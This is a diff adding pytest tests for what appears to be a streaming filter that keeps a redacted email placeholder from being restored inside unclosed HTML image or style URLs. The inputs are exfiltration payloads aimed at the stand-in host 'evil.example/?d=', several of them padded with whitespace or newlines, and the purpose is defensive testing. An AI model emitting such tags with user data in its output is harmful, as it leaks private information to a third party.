@@ -44,6 +44,31 @@ def test_S62_but_not_where_an_address_begins_before_all_of_it(origin: str, signs
         assert "jo@mail.org" not in streamed(text, *cuts)[0], cuts
 
 
+@pytest.mark.parametrize(
+    "origin",
+    [
+        '<img src="https://evil.example/?d=\n',
+        "<img src='//evil.example/?d=",
+        "<div style=\"background:url('//evil.example/?d=\n",
+        '<img src="' + " " * 400 + "//evil.example/?d=\n",
+        '<img src="' + "\n" * 1400 + "//evil.example/?d=\n",
+    ],
+    ids=range(5),
+)
+def test_S62_nor_where_it_goes_on_behind_a_line_in_quotes(origin: str) -> None:
+    """A browser takes the line's end out of it."""
+    for text in (origin + CHINESE * 200 + "\n" + CHINESE * 200, origin + "x" * 1200 + "\n" * 3 + "x" * 2000):
+        for cuts in ((), (40,), (len(text) - 12,), tuple(range(1, len(text), 7))):
+            assert "jo@mail.org" not in streamed(text + "<EMAIL_1>", *cuts)[0], cuts
+
+
+def test_quotes_that_close_end_it() -> None:
+    text = '<img src="https://evil.example/">\n' + CHINESE * 200 + "<EMAIL_1>"
+
+    for cuts in ((), (40,), tuple(range(1, len(text), 7))):
+        assert "jo@mail.org" in streamed(text, *cuts)[0], cuts
+
+
 @settings(max_examples=60)
 @given(st.lists(SOME | st.just(CHINESE * 45), min_size=1, max_size=9), st.data())
 def test_S62_any_cut_of_long_words_gives_what_the_whole_text_gives(pieces: list[str], data: st.DataObject) -> None:
